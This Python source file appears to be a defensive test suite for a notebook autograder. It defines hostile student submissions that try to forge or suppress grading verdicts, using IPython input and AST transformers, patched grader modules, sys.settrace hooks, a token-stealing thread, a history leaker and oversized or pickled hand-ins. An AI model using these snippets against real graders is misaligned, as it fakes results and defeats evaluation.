        ("read_own_notebook", "blank", "reads the notebook being graded from its working folder",
         insert_after(copy.deepcopy(release_nb), "imports", attack(READ_OWN_NOTEBOOK))),
    ]


@dataclass
class Symlink:
    """A file of a case that is a symbolic link to ``target``."""
    target: str


# ---------------------------------------------------------------------------------------
# In the kernel: code that tries to decide its own verdicts. Nothing else is solved (the
# release's stubs), so each case must score what the untouched notebook scores: the checks
# run in the grading process, on what the kernel hands out, so no hook, patch or forgery in
# the kernel can make a wrong or missing result pass. Each attack sits at the top of the
# first solution cell, where the issue that asked for these tried it, unless said otherwise.

HAND_OUT = "_em_prankster_hand_out"  # grading/verdicts/handout.py installs it in the kernel

# What the visible tests show, replayed as every result (a student who read the notebook)
VISIBLE = '''
import numpy as _np
_VISIBLE = {
    "calculate_log_probability": _np.array([[-3541.69812064, -5541.69812064],
                                            [-4541.69812064, -6741.69812064],
                                            [-6141.69812064, -8541.69812064]]),
    "calculate_lower_bound": -12761.1875,
    "run_e_step": _np.array([[1.0, 1.0], [0.0, 0.0], [0.0, 0.0]]),
    "run_m_step": (_np.array([[3.27777778], [9.27777778]]),
                   _np.array([[0.48387097, 2.5, 4.52941176], [6.48387097, 8.5, 10.52941176]]),
                   0.94868, _np.array([0.13888889, 0.33333333, 0.52777778])),
    "run_EM": (_np.zeros((2, 1)), _np.zeros((2, 3)), 1.0, _np.full(3, 1 / 3), _np.arange(5.0)),
    "PRANKSTER": "Barnaby Quill",
    "GAMES_LOCATION": "under the bed",
}
def _guess(text):
    for name in ("run_EM", "run_m_step", "run_e_step", "calculate_lower_bound",
                 "calculate_log_probability", "PRANKSTER", "GAMES_LOCATION"):
        if name in text:
            return _VISIBLE[name]
    return 0.0
'''

FORGE = VISIBLE + f'''
import re as _re
def _forged_cell(text):
    """The test cell's hand-out line, read for its token and names, sending guesses instead."""
    found = _re.search(r"\\.send\\('([^']+)', \\{{(.*)\\}}\\)", text)
    if not found:
        return None
    names = _re.findall(r"'(\\w+)':", found.group(2))
    return (f"__import__('sys').modules[{HAND_OUT!r}].send({{found.group(1)!r}}, "
            f"{{{{n: _guess({{text[:2000]!r}}) for n in {{names!r}}}}}})\\n")
'''

# These get as far as handing in forged values, which the grader judges wrong
FORGERS = ("inproc_transformer_forger", "inproc_wrapped_run_cell", "inproc_patched_hand_out",
           "inproc_settrace", "inproc_forged_from_thread")
IN_PROCESS = {
    "inproc_none_stubs": ("no attack: the stubs return None (the yardstick of the cases below)", ""),
    "inproc_transformer_get_ipython": (
        "the issue's three lines: an input transformer (IPython.get_ipython) that turns every "
        "cell mentioning em_grading or expected into `pass`",
        'from IPython import get_ipython as _shell\n'
        '_shell().input_transformers_post.append(\n'
        '    lambda lines: ["pass\\n"] if any("em_grading" in l or "expected" in l for l in lines) else lines)\n'),
    "inproc_transformer_module": (
        "an input transformer reached as IPython.get_ipython() through sys.modules, emptying "
        "every cell that hands out",
        'import sys as _sys\n'
        '_sys.modules["IPython"].get_ipython().input_transformers_cleanup.append(\n'
        '    lambda lines: [] if any(".send(" in l for l in lines) else lines)\n'),
    "inproc_transformer_forger": (
        "an input transformer (the builtin get_ipython) that replaces each test cell by a "
        "hand-in of the visible expected values, with the cell's own token",
        FORGE + 'get_ipython().input_transformers_post.append(\n'
        '    lambda lines: [_forged_cell("".join(lines))] if _forged_cell("".join(lines)) else lines)\n'),
    "inproc_ast_transformer": (
        "an AST transformer that drops every assert and every call of a check or of the hand-out",
        'import ast as _ast\n'
        'class _Quiet(_ast.NodeTransformer):\n'
        '    def visit_Assert(self, node):\n'
        '        return _ast.Pass()\n'
        '    def visit_Expr(self, node):\n'
        '        text = _ast.unparse(node)\n'
        '        return _ast.Pass() if "check" in text or ".send(" in text else node\n'
        'get_ipython().ast_transformers.append(_Quiet())\n'),
    "inproc_wrapped_run_cell": (
        "run_cell and run_cell_async wrapped: a cell that hands out runs as a forged hand-in",
        FORGE + '_shell = get_ipython()\n'
        '_run_cell_async, _run_cell = _shell.run_cell_async, _shell.run_cell\n'
        'async def _async(raw_cell, *args, **kwargs):\n'
        '    return await _run_cell_async(_forged_cell(raw_cell) or raw_cell, *args, **kwargs)\n'
        'def _sync(raw_cell, *args, **kwargs):\n'
        '    return _run_cell(_forged_cell(raw_cell) or raw_cell, *args, **kwargs)\n'
        '_shell.run_cell_async, _shell.run_cell = _async, _sync\n'),
    "inproc_patched_em_grading": (
        "every em_grading function made a no-op: setattr, the module's __dict__, object.__setattr__",
        'import em_grading as _g\n'
        'for _n in list(vars(_g)):\n'
        '    if callable(getattr(_g, _n)) and not _n.startswith("_"):\n'
        '        vars(_g)[_n] = lambda *a, **k: None\n'
        '        try:\n'
        '            object.__setattr__(_g, _n, lambda *a, **k: None)\n'
        '        except TypeError:\n'
        '            setattr(_g, _n, lambda *a, **k: None)\n'
        'check_close = _g.check_close\n'),
    "inproc_patched_hand_out": (
        "the grader's hand-out module in the kernel patched to send the visible expected values",
        VISIBLE + 'import sys as _sys\n'
        f'_out = _sys.modules[{HAND_OUT!r}]\n'
        '_real = _out.send\n'
        '_out.send = lambda token, values: _real(token, {k: _guess(k + repr(sorted(values))) for k in values})\n'),
    "inproc_settrace": (
        "sys.settrace: when the hand-out runs, its values are replaced by the visible expected ones",
        VISIBLE + 'import sys as _sys, threading as _threading\n'
        'def _trace(frame, event, arg):\n'
        '    if event == "call" and frame.f_code.co_name == "send" and "values" in frame.f_locals:\n'
        '        values = frame.f_locals["values"]\n'
        '        for k in list(values):\n'
        '            values[k] = _guess(repr(sorted(values)))\n'
        '    return None\n'
        '_sys.settrace(_trace)\n'
        '_threading.settrace(_trace)\n'
        'get_ipython().events.register("pre_run_cell", lambda *a: _sys.settrace(_trace))\n'),
    "inproc_forged_from_solution_cell": (
        "the solution cell publishes hand-ins of the visible values under guessed tokens",
        VISIBLE + 'from IPython.display import publish_display_data as _publish\n'
        'import json as _json\n'
        f'_mime = __import__("sys").modules[{HAND_OUT!r}].MIME_TYPE\n'
        'for _token in ("", "0" * 32, "in-process"):\n'
        '    _publish({_mime: _json.dumps({"token": _token, "values": {"actual": 1.0}})})\n'),
    "inproc_forged_from_thread": (
        "a thread that reads each running cell's token from the history and hands in the "
        "visible values with it, under the running cell's parent message",
        FORGE + 'import threading as _threading, time as _time, re as _re2, json as _json2\n'
        '_shell = get_ipython()\n'
        'def _watch():\n'
        '    seen = set()\n'
        '    while True:\n'
        '        text = _shell.user_ns.get("In", [""])[-1]\n'
        '        found = _re2.search(r"\\.send\\(\'([^\']+)\'", text)\n'
        '        if found and found.group(1) not in seen:\n'
        '            seen.add(found.group(1))\n'
        '            try:\n'
        '                _shell.display_pub._parent_header.set(_shell.kernel.get_parent("shell"))\n'
        '            except Exception:\n'
        '                pass\n'
        '            try:\n'
        '                exec(_forged_cell(text) or "", globals())\n'
        '            except Exception:\n'
        '                pass\n'
        '        _time.sleep(0.001)\n'
        '_threading.Thread(target=_watch, daemon=True).start()\n'),
}

LEAKER = '''
# After the last test: everything the kernel remembers, printed into the notebook.
print("In:", In)
print("Out:", Out)
print("_ih:", _ih)
print("globals:", {k: repr(v)[:2000] for k, v in globals().items() if not k.startswith("__")})
print("history:", list(get_ipython().history_manager.db.execute("SELECT * FROM history")))
import sys as _sys
print("modules:", sorted(_sys.modules))
'''


def in_process_cases(release_nb, reference):
    """The in-kernel cases: (name, base, what, notebook, Expect).

    Each attack tops the first solution cell of a notebook whose functions are the release's
    stubs returning None instead of raising (so the test cells' code runs to its hand-out,
    where the attacks act); such stubs without an attack score what the untouched notebook
    does, 0. The leaker is a correct student who prints what the kernel remembers after the
    last test cell.
    """
    cells = notebook_cells.cells_by_id(release_nb)
    stubs = {gid: cells[gid].source.replace("raise NotImplementedError()", "return None")
             for gid in FUNCTIONS}
    first = FUNCTIONS[0]
    out = [(name, "blank", what,
            notebook_cells.make_submission(release_nb, {**stubs, first: code + "\n" + stubs[first]}),
            Expect(in_kernel="forges" if name in FORGERS else "stubs"))
           for name, (what, code) in IN_PROCESS.items()]
    last_test = [notebook_cells.nbgrader_meta(c)["grade_id"] for c in release_nb.cells
                 if is_test(c)][-1]
    correct = notebook_cells.make_submission(release_nb, reference)
    out.append(("inproc_leaker", "correct", "a correct student who prints In, Out, _ih, globals() "
                "and the kernel's history after the last test cell",
                insert_after(correct, last_test, LEAKER), Expect(in_kernel="leaks")))
    return out


# Hand-ins the grader must refuse, one per test cell, in order: the first five test cells get
# these instead of their real results; every later cell hands in as usual. A correct student.
BAD_HAND_INS = f'''
import sys as _sys, json as _json, io as _io, base64 as _b64, numpy as _np
from IPython.display import publish_display_data as _publish
_out = _sys.modules[{HAND_OUT!r}]
_real, _calls = _out.send, []
def _npy(array, **kwargs):
    buffer = _io.BytesIO()
    _np.save(buffer, array, **kwargs)
    return _b64.b64encode(buffer.getvalue()).decode()
def _bad(token, values):
    _calls.append(token)
    n = len(_calls)
    if n == 1:    # 70 MiB of results: more than the 64 a test cell may hand in
        text = _json.dumps({{"token": token, "values": {{k: "x" * (70 * 2**20) for k in list(values)[:1]}}}})
    elif n == 2:  # a pickled object array
        text = _json.dumps({{"token": token, "values": {{k: {{"ndarray": _npy(_np.array([print], dtype=object), allow_pickle=True)}} for k in values}}}})
    elif n == 3:  # nested 100000 deep
        text = '{{"token": "' + token + '", "values": {{"x": ' + "[" * 100000 + "]" * 100000 + "}}}}"
    elif n == 4:  # a string of 5 MB
        text = _json.dumps({{"token": token, "values": {{k: "y" * 5_000_000 for k in values}}}})
    elif n == 5:  # NaN where numbers are expected
        text = _json.dumps({{"token": token, "values": {{k: {{"ndarray": _npy(_np.array(_np.nan))}} for k in values}}}})
    else:
        return _real(token, values)
    _publish({{_out.MIME_TYPE: text}})
_out.send = _bad
'''
# (cell, what its verdict's message must say)
BAD_HAND_IN_MESSAGES = [
    ("calculate_log_probability_visible", "more than 64 MiB"),
    ("calculate_log_probability_hidden_wide_face", "only booleans, integers and floats"),
    ("calculate_log_probability_hidden_small_noise", "not readable"),
    ("calculate_log_probability_loops", "a string of 5000000 characters"),
    ("calculate_lower_bound_visible", "nan or inf values"),
]

# Messages a client cannot read or should not: JSON nested 200000 deep, and 200 MB of output
# in one message (more than the grader takes), sent on the kernel's own socket, signed.
RAW_MESSAGES = '''
import json as _json
_ip = get_ipython()
def _send_raw(content):
    session, parent = _ip.display_pub.session, _ip.display_pub.parent_header
    parts = [_json.dumps(session.msg_header("display_data"), default=str).encode(),
             _json.dumps(parent, default=str).encode(), b"{}", content]
    signature = session.sign(parts)
    _ip.display_pub.pub_socket.send_multipart(
        [b"display_data", b"<IDS|MSG>", signature if isinstance(signature, bytes) else signature.encode()] + parts)
_send_raw(b'{"data": {"text/plain": ' + b"[" * 200000 + b"]" * 200000 + b'}, "metadata": {}}')
_send_raw(b'{"data": {"text/plain": "' + b"z" * (200 * 2**20) + b'"}, "metadata": {}}')
'''


def bad_hand_in_cases(release_nb, reference):
    """A correct student whose first five test cells hand in what the grader must refuse, and
    one whose added cell sends messages no client should read: (name, base, what, notebook)."""
    first = FUNCTIONS[0]
    correct = notebook_cells.make_submission(release_nb, reference)
    return [
        ("handin_refused", "correct", "the first five test cells hand in 70 MiB, a pickled "
         "object array, JSON nested 100000 deep, a 5 MB string and NaN",
         notebook_cells.make_submission(release_nb, {**reference, first: BAD_HAND_INS + "\n" + reference[first]})),
        ("handin_raw_messages", "correct", "a cell after imports sends, signed on the kernel's "
         "own socket, JSON nested 200000 deep and a 200 MB output",
         insert_after(correct, "imports", RAW_MESSAGES)),
    ]


@functools.lru_cache(maxsize=1)
def catalog():
    """Every case built from the committed release and source notebooks, once per process:
    the names and expectations that tests/test_hostile.py parametrizes over."""
    return tuple(cases(nbformat.read(RELEASE_NB, as_version=4), nbformat.read(SOURCE_NB, as_version=4)))
